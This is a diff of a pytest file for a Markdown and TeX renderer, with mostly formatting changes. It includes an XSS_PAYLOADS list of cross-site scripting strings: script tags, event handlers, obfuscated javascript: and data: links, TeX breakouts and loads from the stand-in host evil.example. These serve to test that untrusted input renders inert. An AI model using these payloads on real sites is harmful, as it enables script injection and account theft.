@@ -1,4 +1,5 @@
 """Markdown + TeX rendering: math delimiters, code, final-answer highlight, and untrusted input made inert."""
+
 from __future__ import annotations
 
 from html.parser import HTMLParser
@@ -82,6 +83,7 @@ def assert_inert(html: str) -> None:
 
 # --- Math delimiters ----------------------------------------------------------------------------------
 
+
 @pytest.mark.parametrize(
     ("text", "expected"),
     [
@@ -92,7 +94,10 @@ def assert_inert(html: str) -> None:
         ("Then \\(a+b\\) holds.", [("inline", "a+b")]),
         ("Then \\[c = d\\] in a paragraph.", [("block", "c = d")]),
         ("\\[\n a = b\n - c\n\\]", [("block", "a = b\n- c")]),
-        ("\\begin{align}\na &= b \\\\\nc &= d\n\\end{align}", [("block", "\\begin{align}\na &= b \\\\\nc &= d\n\\end{align}")]),
+        (
+            "\\begin{align}\na &= b \\\\\nc &= d\n\\end{align}",
+            [("block", "\\begin{align}\na &= b \\\\\nc &= d\n\\end{align}")],
+        ),
     ],
 )
 def test_every_delimiter_style_becomes_an_inert_math_element(text, expected):
@@ -150,8 +155,15 @@ def test_unclosed_delimiters_are_text():
 
 def test_markdown_structure_still_renders():
     html = render_markdown("# Title\n\n- **bold** and *em*\n- ~~gone~~\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |")
-    for fragment in ("<h1>Title</h1>", "<strong>bold</strong>", "<em>em</em>", "<s>gone</s>", "<blockquote>",
-                     "<table>", "<td>1</td>"):
+    for fragment in (
+        "<h1>Title</h1>",
+        "<strong>bold</strong>",
+        "<em>em</em>",
+        "<s>gone</s>",
+        "<blockquote>",
+        "<table>",
+        "<td>1</td>",
+    ):
         assert fragment in html
     assert_inert(html)
 
@@ -169,6 +181,7 @@ def test_non_string_input_is_refused():
 
 # --- Final-answer highlight --------------------------------------------------------------------------
 
+
 def highlighted(html: str) -> list[tuple[str, dict]]:
     return [(tag, attrs) for tag, attrs in parse(html).elements if attrs.get("id") == FINAL_ANSWER_ID]
 
@@ -177,7 +190,10 @@ def test_span_inside_inline_math_highlights_the_whole_formula():
     text = "We get $x = \\boxed{42}$.\n\nDone."
     start = text.index("42")
     html = render_with_final_answer(text, (start, start + 2))
-    assert '<mark class="final-answer" id="final-answer"><span class="math" data-display="inline">x = \\boxed{42}</span></mark>.' in html
+    assert (
+        '<mark class="final-answer" id="final-answer"><span class="math" data-display="inline">x = \\boxed{42}</span></mark>.'
+        in html
+    )
     assert math_of(html) == [("inline", "x = \\boxed{42}")]
     assert_inert(html)
 
@@ -194,20 +210,23 @@ def test_span_over_plain_text_wraps_just_that_text():
     text = "Some work.\n\n**Final answer:** the triangle is isosceles"
     start = text.index("the triangle")
     html = render_with_final_answer(text, (start, len(text)))
-    assert "<strong>Final answer:</strong> <mark class=\"final-answer\" id=\"final-answer\">the triangle is isosceles</mark>" in html
+    assert (
+        '<strong>Final answer:</strong> <mark class="final-answer" id="final-answer">the triangle is isosceles</mark>'
+        in html
+    )
 
 
 def test_span_starting_at_a_list_marker_keeps_the_list():
     text = "Steps\n\n- answer: **7**"
     html = render_with_final_answer(text, (text.index("- answer"), len(text)))
-    assert "<ul>\n<li><mark class=\"final-answer\" id=\"final-answer\">answer: <strong>7</strong></mark></li>" in html
+    assert '<ul>\n<li><mark class="final-answer" id="final-answer">answer: <strong>7</strong></mark></li>' in html
 
 
 def test_span_crossing_blocks_wraps_the_blocks():
     text = "First paragraph ends with x.\n\nSecond one holds $y$.\n\nThird is untouched."
     html = render_with_final_answer(text, (text.index("ends"), text.index("holds") + 5))
     assert '<div class="final-answer" id="final-answer">\n<p>First paragraph' in html
-    assert "holds <span class=\"math\" data-display=\"inline\">y</span>.</p>\n</div>\n<p>Third" in html
+    assert 'holds <span class="math" data-display="inline">y</span>.</p>\n</div>\n<p>Third' in html
     assert_inert(html)
 
 
@@ -222,7 +241,10 @@ def test_span_over_a_display_block_keeps_the_display_math():
 def test_span_that_would_split_emphasis_falls_back_to_the_block():
     text = "The **answer is 12** and more words."
     html = render_with_final_answer(text, (text.index("12"), len(text)))
-    assert '<div class="final-answer" id="final-answer">\n<p>The <strong>answer is 12</strong> and more words.</p>\n</div>' in html
+    assert (
+        '<div class="final-answer" id="final-answer">\n<p>The <strong>answer is 12</strong> and more words.</p>\n</div>'
+        in html
+    )
 
 
 def test_highlight_with_the_extractor_span_when_available():
@@ -256,25 +278,25 @@ def test_private_use_characters_in_the_text_cannot_forge_the_highlight():
 XSS_PAYLOADS = [
     "<script>window.__pwned = 1</script>",
     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=\"window.__pwned=1\">",
+    '<img src=x onerror="window.__pwned=1">',
     "<svg onload=\"document.title='pwned'\"><circle r=1></circle></svg>",
     "<svg><script>window.__pwned=1</script></svg>",
     "[click](javascript:window.__pwned=1)",
     "[click](JaVaScRiPt:alert(1))",
     "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "<a href=\"javascript:alert(1)\">html link</a>",
-    "<a href=\"data:text/html,<script>alert(1)</script>\">data link</a>",
-    "<a href=\"jav&#x09;ascript:alert(1)\">tab entity</a>",
+    '<a href="javascript:alert(1)">html link</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
+    '<a href="jav&#x09;ascript:alert(1)">tab entity</a>',
     "[tab](jav&#x09;ascript:alert(1))",
     "[newline](java\nscript:alert(1))",
     "<javascript:alert(1)>",
-    "<iframe src=\"https://evil.example\"></iframe>",
-    "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
+    '<iframe src="https://evil.example"></iframe>',
+    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
     "<style>body{background:url(https://evil.example/x)}</style>",
-    "<div style=\"background:url(javascript:alert(1))\">styled</div>",
-    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</p>",
-    "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x\">",
-    "<form action=\"https://evil.example\"><input name=q><button>go</button></form>",
+    '<div style="background:url(javascript:alert(1))">styled</div>',
+    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
+    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
+    '<form action="https://evil.example"><input name=q><button>go</button></form>',
     "<!-- <script>window.__pwned=1</script> -->",
     "<!--[if IE]><script>alert(1)</script><![endif]-->",
     "$</span><script>window.__pwned=1</script>$",
@@ -283,11 +305,11 @@ XSS_PAYLOADS = [
     "\\[</div><iframe src=//evil.example></iframe>\\]",
     "$\\href{javascript:alert(1)}{click}$",
     "\\boxed{<img src=x onerror=alert(1)>}",
-    "$x$\" onmouseover=\"alert(1)",
+    '$x$" onmouseover="alert(1)',
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<a href=\"https://ok.example\" onclick=\"alert(1)\">ok</a>",
-    "[ok](https://ok.example \"title\\\" onmouseover=alert(1)\")",
-    "<base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
+    '[ok](https://ok.example "title\\" onmouseover=alert(1)")',
+    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
     "<link rel=stylesheet href=https://evil.example/x.css>",
     "```\n</code></pre><script>alert(1)</script>\n```",
     "`<script>alert(1)</script>`",
